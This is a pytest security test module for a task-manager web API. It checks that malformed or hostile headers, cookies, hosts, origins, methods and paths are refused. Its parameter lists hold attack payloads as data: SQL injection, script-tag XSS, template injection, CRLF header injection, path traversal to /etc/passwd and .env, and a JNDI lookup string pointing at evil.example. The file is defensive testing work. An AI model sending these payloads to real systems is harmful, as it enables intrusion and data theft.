"""Headers, methods, hosts and origins that no honest client sends."""

from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.contracts.clients import LATER, handshake_status
from tests.security.hostile.world import World, refused

TASKS = "/api/v1/tasks"
KIND = "Content-Type: application/json"
KEYS = ["", "x" * 256, "x" * 7000, "a\tb", "\x7f", "ü", "€".encode().decode("latin-1"), "\x80", "a\x01b", "\x1b[2J"]


@pytest.mark.parametrize("path", [TASKS, f"{TASKS}/{{own}}/cancel", "/api/v1/tokens"])
@pytest.mark.parametrize("key", KEYS, ids=lambda key: ascii(key)[:20])
def test_an_idempotency_key_that_is_none_is_refused(world: World, path: str, key: str) -> None:
    path = path.format(own=world.own["id"])
    head = world.request("POST", path, KIND, "Idempotency-Key: @", body=b"{}")
    status, received = world.raw(head.replace(b"@", key.encode("latin-1")))
    assert (status, b'"code":"bad_idempotency_key"' in received) in (
        (400, True),
        (400, b"HTTP/1.1 400 Bad" not in received),
    )


def test_the_key_of_another_owner_is_just_another_key(world: World) -> None:
    """Neither their answer, which holds their task, nor a word that it was used."""
    headers, body = {"Idempotency-Key": "shared"}, {"title": "BOBS-SECRET once", "run_at": LATER}
    theirs = world.call("POST", TASKS, who="bob", json=body, headers=headers)
    own = world.call("POST", TASKS, json={**body, "title": "Mine"}, headers=headers)
    assert (theirs.status_code, own.status_code) == (201, 201)
    assert own.json()["id"] != theirs.json()["id"]
    assert "Idempotent-Replayed" not in own.headers
    refused(world.call("POST", TASKS, json={**body, "title": "Other"}, headers=headers), 409, "idempotency_key_reused")
    again = world.call("POST", TASKS, json={**body, "title": "Mine"}, headers=headers)
    assert again.json()["id"] == own.json()["id"]
    world.remove(own.json()["id"])
    world.remove(theirs.json()["id"])


TAGS = [
    "", '""', "1", '"0"', '"-1"', '"x"', '"1', '1"', 'W/"0"', 'w/"1"', '"01x"', '"9999999999"', '"99999999999999999999"', "**",
    '"1" "2"', '"', "' OR 1=1--", '"' * 4001, '"1"\t,', "{{7*7}}", '"\u0661"', '"1.0"', ", ".join(['"2"'] * 900),
]  # fmt: skip


@pytest.mark.parametrize("method", ["PATCH", "DELETE"])
@pytest.mark.parametrize("tag", TAGS, ids=lambda tag: ascii(tag)[:24])
def test_a_version_that_is_none_of_the_task_matches_nothing(world: World, method: str, tag: str) -> None:
    answer = world.call(method, f"{TASKS}/{world.own['id']}", json={"title": "x"}, headers={"If-Match": tag.encode()})
    refused(answer, 412, "version_conflict")


NAMES = [
    "",
    "x" * 129,
    "x" * 7000,
    "a b",
    "<script>alert(1)</script>",
    "ü",
    '"',
    "a;b",
    "{{7*7}}",
    "\x80",
    "%0d%0aX-Injected: y",
    "-",
]


@pytest.mark.parametrize("path", ["/none", "/login/"])
@pytest.mark.parametrize("name", NAMES, ids=lambda name: ascii(name)[:20])
def test_a_name_for_the_request_that_could_do_harm_is_replaced(world: World, path: str, name: str) -> None:
    answer = world.call("GET", path, headers={"X-Request-ID": name.encode("latin-1")})
    assert len(answer.headers["X-Request-ID"]) == 32
    assert "X-Injected" not in answer.headers
    assert not name or len(name) < 4 or name not in answer.text


LINES = {
    "folded": b"X-Request-ID: a\r\n X-Injected: y", "bare CR": b"X-Request-ID: a\rX-Injected: y",
    "bare LF": b"X-Request-ID: a\nX-Injected: y", "NUL": b"X-Request-ID: a\0b", "no colon": b"X-Request-ID",
    "no name": b": x", "space before the colon": b"X-Request-ID : x", "binary name": b"\xff\xfe: x",
    "name with NUL": b"X\0Y: x", "huge line": b"X-Long: " + b"x" * 200_000, "5000 lines": b"\r\n".join([b"X-A: b"] * 5000),
}  # fmt: skip


@pytest.mark.parametrize("name", LINES)
def test_a_broken_header_is_refused_or_means_nothing(world: World, name: str) -> None:
    host = urlsplit(world.server.url).netloc.encode()
    status, received = world.raw(
        b"GET /livez HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n" + LINES[name] + b"\r\n\r\n"
    )
    assert status in (0, 200, 400, 413, 431)
    head = received.split(b"\r\n\r\n")[0].lower()
    assert b"x-injected" not in head.replace(b"x-request-id: a", b"")


BEARERS = [
    "Bearer", "Bearer ", "Bearer x", "Bearer tm_", "Bearer tm_" + "A" * 43, "Bearer " + "x" * 7000, "Bearer \x80\xff", "Bearer ü",
    "bearer null", "Bearer ' OR 1=1--", "Bearer {{7*7}}", "Bearer tm_x tm_y", "Basic YWRtaW46YWRtaW4=", "Basic !!", "Digest x",
    "Token x", "", "x", "Negotiate YII=", "Bearer\ttm_x", "BEARER  ", "Bearer %00", "AWS4-HMAC-SHA256 Credential=x",
]  # fmt: skip


@pytest.mark.parametrize("path", [TASKS, f"{TASKS}/{{theirs}}/deliveries"])
@pytest.mark.parametrize("text", BEARERS, ids=lambda text: ascii(text)[:24])
def test_credentials_that_are_none_open_nothing(world: World, path: str, text: str) -> None:
    answer = world.call(
        "GET", path.format(theirs=world.theirs["id"]), headers={"Authorization": text.encode("latin-1")}
    )
    body = refused(
        answer, 401, "invalid_token" if text.lower().startswith("bearer") and text[6:7] != "\t" else "not_authenticated"
    )
    assert answer.headers["WWW-Authenticate"] == 'Bearer realm="taskmanager"'
    assert "tm_x" not in body["detail"]


COOKIES = [
    "sessionid=", "sessionid=x", "sessionid=" + "x" * 5000, "sessionid=../../etc/passwd", "sessionid=' OR 1=1--",
    "sessionid=\x80",
    "sessionid=a; sessionid=b", "=;;;=", "sessionid", "sessionid=%00", 'sessionid="\\000"', "messages=x:y:z",
    "csrftoken=<script>alert(1)</script>", "csrftoken=" + "x" * 5000, "; ".join(f"a{n}=b" for n in range(500)),
]  # fmt: skip


@pytest.mark.parametrize("cookie", COOKIES, ids=lambda cookie: ascii(cookie)[:30])
def test_a_session_that_is_none_opens_nothing(world: World, cookie: str) -> None:
    for name in ("sessionid", "csrftoken", "messages"):
        cookie = cookie.replace(name, world.server.api.cookie(name))
    headers = {"Cookie": cookie.encode("latin-1")}
    refused(world.call("GET", TASKS, who="", headers=headers), 401, "not_authenticated")
    page = world.page("GET", "/dashboard/", who="", headers=headers)
    assert (page.status_code, page.headers["Location"]) == (302, "/login/?next=/dashboard/")
    form = world.page("POST", "/login/", who="", data={"username": "alice"}, headers={**headers, "X-CSRFToken": "x"})
    assert form.status_code == 403
    assert "<script>alert" not in page.text + form.text


HOSTS = [
    "evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "evil.example:80", "127.0.0.1@evil.example", "[::1", "",
    "localhost/", "localhost/x", "a b", "localhost, evil.example", "0.0.0.0", "127.1", "{{7*7}}", "<script>", "' OR 1=1--", "*",
    ".localhost.", "localhost:x", "x" * 7000, "loc\tal", "ü", "127.0.0.1:80:80", "2130706433",
]  # fmt: skip
DOORS = [TASKS, "/tasks", "/dashboard/", "/login/", "/admin/", "/api/v1/docs"]


@pytest.mark.parametrize("host", HOSTS, ids=lambda host: ascii(host)[:24])
def test_a_host_that_is_not_ours_is_refused_at_every_door(world: World, host: str) -> None:
    for path in DOORS:
        status, received = world.raw(
            f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
            f"Authorization: Bearer {world.people['alice']['token']}\r\n\r\n".encode()
        )
        assert status == 400, path
        assert b"<script>" not in received
        assert not host.startswith("evil") or host.encode() not in received
    assert handshake_status(world.server, "/ws", Host=host or "none.example") in (400, 403)
    assert handshake_status(world.server, "/ws/dashboard", Host=host or "none.example") in (400, 403)


ORIGINS = [
    "http://evil.example", "null", "https://127.0.0.1.evil.example", "http://{host}.evil.example", "http://evil.example#{host}",
    "file://", "http://[", "http://{host}@evil.example", "chrome-extension://x", "{host}", "http://", "javascript:alert(1)",
    "http://{host}/", "http://{host}, http://evil.example", "x" * 5000, "' OR 1=1--", "\x80", "ftp://{host}",
]  # fmt: skip


@pytest.mark.parametrize("origin", ORIGINS, ids=lambda origin: ascii(origin)[:40])
def test_another_page_reads_nothing_changes_nothing_and_opens_no_socket(world: World, origin: str) -> None:
    """A browser sends the cookies of whoever is logged in; the page that asks for it is not ours."""
    text = origin.format(host=urlsplit(world.server.url).netloc)
    session = f"{world.server.api.cookie('sessionid')}={world.people['alice']['session']}"
    headers: dict[str, Any] = {
        "Origin": text.encode("latin-1"),
        "Cookie": f"{session}; {world.server.api.cookie('csrftoken')}={'x' * 32}",
    }
    read = world.call("GET", TASKS, who="", headers=headers)
    assert "Access-Control-Allow-Origin" not in read.headers
    preflight = world.call("OPTIONS", TASKS, who="", headers={**headers, "Access-Control-Request-Method": "POST"})
    assert "Access-Control-Allow-Origin" not in preflight.headers
    for path in (TASKS, "/tasks"):
        made = world.call("POST", path, who="", json={"title": "x"}, headers={**headers, "X-CSRFToken": "x" * 32})
        refused(made, 403, "csrf")
    assert (
        world.page("POST", "/dashboard/", data={"title": "x"}, headers={"Origin": text.encode("latin-1")}).status_code
        == 403
    )
    for path in ("/ws", "/ws/dashboard"):
        sent = {"Origin": text.encode().decode("latin-1"), "Cookie": session}
        assert handshake_status(world.server, path, **sent) in (400, 403)


FORWARDED = [
    ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "https"), ("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "::1"),
    ("Forwarded", "for=127.0.0.1;host=evil.example"), ("X-Original-URL", "/admin/"), ("X-Rewrite-URL", "/admin/"),
    ("X-Forwarded-Prefix", "//evil.example"), ("X-Forwarded-User", "root"), ("Remote-User", "root"), ("X-Remote-User", "root"),
    ("X-User", "root"), ("X-Forwarded-For", "' OR 1=1--, " * 100), ("Via", "x"), ("X-Script-Name", "/evil"),
    ("Script-Name", "//evil.example"), ("X-Accel-Redirect", "/etc/passwd"), ("HX-Target", "<script>"), ("Range", "bytes=0-1"),
    ("HX-Current-URL", "http://["), ("Accept-Language", "../../x," * 200), ("Accept", "x" * 5000), ("Referer", "http://["),
    ("If-Modified-Since", "x" * 2000), ("If-None-Match", '"' * 999), ("Content-Encoding", "gzip"), ("TE", "x" * 999),
    ("User-Agent", "${{jndi:ldap://evil.example/a}}"), ("Cookie2", "x"), ("Proxy", "http://evil.example"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "value"), FORWARDED, ids=lambda text: text[:30])
def test_what_a_proxy_might_say_gives_no_right_and_leads_nowhere(world: World, name: str, value: str) -> None:
    headers = {name: value}
    refused(world.call("GET", TASKS, who="", headers=headers), 401, "not_authenticated")
    listed = world.call("GET", f"{TASKS}?limit=1", headers=headers)
    assert listed.status_code == 200
    assert listed.json()["next"] is None or listed.json()["next"].startswith(world.server.url)
    page = world.page("GET", "/dashboard/", who="", headers=headers)
    assert (page.status_code, page.headers["Location"]) == (302, "/login/?next=/dashboard/")
    docs = world.call("GET", "/api/v1/docs", headers=headers)
    assert "evil.example" not in docs.text
    refused(world.call("GET", f"{TASKS}/{world.theirs['id']}", headers=headers), 404, "not_found")


METHODS = ["PURGE", "FOO", "TRACE", "PROPFIND", "DELETE2", "PRI", "X" * 500, "HEAD2", "M-SEARCH", "LINK"]
PLACES = {
    TASKS: 405,
    f"{TASKS}/{{own}}": 405,
    "/tasks": 405,
    "/api/v1/me": 405,
    "/dashboard/": 405,
    "/dashboard/samples": 405,
}


@pytest.mark.parametrize("path", PLACES)
@pytest.mark.parametrize("method", METHODS, ids=lambda method: method[:20])
def test_an_unusual_method_is_refused(world: World, method: str, path: str) -> None:
    cookie = f"Cookie: {world.server.api.cookie('sessionid')}={world.people['alice']['session']}"
    cookie += f"; {world.server.api.cookie('csrftoken')}={'x' * 32}"
    where = path.format(own=world.own["id"])
    status, received = world.raw(world.request(method, where, cookie, "X-CSRFToken: " + "x" * 32))
    assert status in (400, 403, PLACES[path], 501), received[:300]


OVERRIDES = ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"]


@pytest.mark.parametrize("name", OVERRIDES)
def test_a_method_is_the_one_of_the_request_line(world: World, name: str) -> None:
    path = f"{TASKS}/{world.own['id']}"
    assert world.call("GET", path, headers={name: "DELETE"}).status_code == 200
    refused(world.call("POST", path, json={"title": "x"}, headers={name: "PATCH"}), 405, "method_not_allowed")
    refused(world.call("POST", f"{path}?_method=DELETE", json={}, headers={name: "DELETE"}), 405, "method_not_allowed")


TARGETS = [
    "http://evil.example/", "//evil.example/dashboard/", "/dashboard/../admin/", "/%2e%2e/%2e%2e/etc/passwd",
    "/static/../manage.py",
    "/static/%2e%2e/settings.py", "/static//etc/passwd", "/%00", "/%FF%FE", "/" + "x" * 7000, "/.env", "/.git/config",
    "/api/v1/tasks/", "/api/v1//tasks", "/API/V1/TASKS", "/api/v2/tasks", "/tasks/%2e%2e", "/;/admin",
    "/__debug__/", "/console", "/static/tasks_app/%00", "/dashboard/tasks/x/", "/dashboard/tokens/" + "9" * 5000 + "/revoke",
]  # fmt: skip


@pytest.mark.parametrize("target", TARGETS, ids=lambda target: target[:40])
def test_an_address_that_is_none_is_not_found(world: World, target: str) -> None:
    status, received = world.raw(world.request("GET", target))
    assert status in (400, 404), received[:300]
    assert b"root:" not in received
    assert b"SECRET_KEY" not in received
